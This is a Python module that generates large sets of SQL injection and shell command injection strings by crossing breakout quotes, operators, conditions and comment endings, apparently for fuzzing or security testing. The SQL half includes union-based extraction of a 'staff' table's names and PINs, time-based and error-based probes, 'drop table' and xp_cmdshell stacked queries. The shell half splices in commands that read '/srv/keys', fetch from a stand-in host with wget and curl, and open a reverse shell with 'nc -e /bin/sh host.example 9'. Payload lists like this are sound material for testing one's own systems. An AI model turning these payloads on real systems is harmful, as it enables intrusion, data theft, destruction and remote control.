"""Attacks made by crossing what each language crosses: the place broken out of, the operator, the body, the ending."""

from itertools import product

_CLOSED = ("x'", 'x"', "1')", "1'))", "%'", "1%')", '")', "x'  ")
_BARE = ("1", "-1", "1)", "8))", "(1)", "id", "1  ")
_CONDITIONS = (
    "7=7",
    "3*2>5",
    "7 BETWEEN 1 AND 9",
    "'q'='q'",
    "7 in (7)",
    "(select 7)=7",
    "exists(select 1 from staff)",
    "ascii(substring(user(),1,1))>64",
    "(select count(*) from staff)>1",
    "length(database())<99",
    "sleep(3)",
    "7=(select 7 from pg_sleep(3))",
    "7=cast((select name from staff) as int)",
    "extractvalue(7,concat(0x5c,user()))",
    "(select 7 from(select count(*),concat(user(),floor(rand(0)*2))x from staff group by x)a)",
    "7=dbms_pipe.receive_message(chr(97),3)",
    "if(7=7,1,0)",
    "case when 7=7 then 1 else 0 end",
)
_WHOLE = (
    " union select null,null",
    " UNION ALL SELECT name,pin FROM staff",
    " union(select 1,2)",
    " order by 7",
    " having 7=7",
    ";select pg_sleep(3)",
    "; drop table staff",
    "; waitfor delay '0:0:3'",
    ";insert into staff values(1,2)",
    ";update staff set pin=1",
    ";exec xp_cmdshell 'dir'",
)
_ENDS = ("-- ", "--", "#", "-- -", "/*")
_BALANCED = {"'": " and 'k'='k", '"': ' and "k"="k'}


def sql():
    """Values that change the statement around them."""
    for place, operator, condition, end in product(
        _CLOSED, (" and ", " OR ", " || ", "/**/oR/**/"), _CONDITIONS, _ENDS
    ):
        yield f"{place}{operator}{condition}{end}"
    for place, whole, end in product(_CLOSED, _WHOLE, _ENDS):
        yield f"{place}{whole}{end}"
    for place, operator, condition in product(_CLOSED, (" and ", " or "), _CONDITIONS):
        quote = place.strip(" )%x1")[:1]
        opened = "(" * place.count(")")
        yield f"{place}{operator}{condition}{_BALANCED[quote].replace('and ', 'and ' + opened)}"
    for place, operator, condition in product(_BARE, (" and ", " OR ", "/**/or/**/"), _CONDITIONS):
        yield f"{place}{operator}{condition}"
    for place, whole in product(_BARE, _WHOLE):
        yield f"{place}{whole}"


_SEPARATORS = (";", "; ", " ; ", "|", " | ", "||", " || ", "&&", " && ", "&", " & ", "\n", "%0a", "%3B", "%26%26")
_BEFORE = ("", "a", "a.png", "8.8.8.8", "host.example", "'", '"', "a'", 'a"', "a)")
_COMMANDS = (
    "id",
    "whoami",
    "ls -la",
    "cat /srv/keys",
    "uname -a",
    "/bin/ls",
    "wget http://host.example/a",
    "curl host.example",
    "ping -c 3 host.example",
    "sleep 5",
    "nc -e /bin/sh host.example 9",
    "echo hi > /srv/a",
    "ipconfig /all",
    "dir C:\\",
    "type C:\\a.txt",
    "netstat -an",
    "net user",
    "powershell -c ls",
    "python3 -c 'print(1)'",
    "rm -f x",
    "touch /srv/x",
)
_AFTER = ("", ";", " #", "|", " &", "'", '"')


def shell():
    """Values that start a command of their own."""
    for before, separator, command, after in product(_BEFORE, _SEPARATORS, _COMMANDS, _AFTER):
        if not (separator in ("&", " & ", "\n") and not before and not after):
            yield f"{before}{separator}{command}{after}"
    for before, command, after in product(_BEFORE, _COMMANDS, ("", "x", ".png")):
        yield f"{before}$({command}){after}"
        yield f"{before}`{command}`{after}"
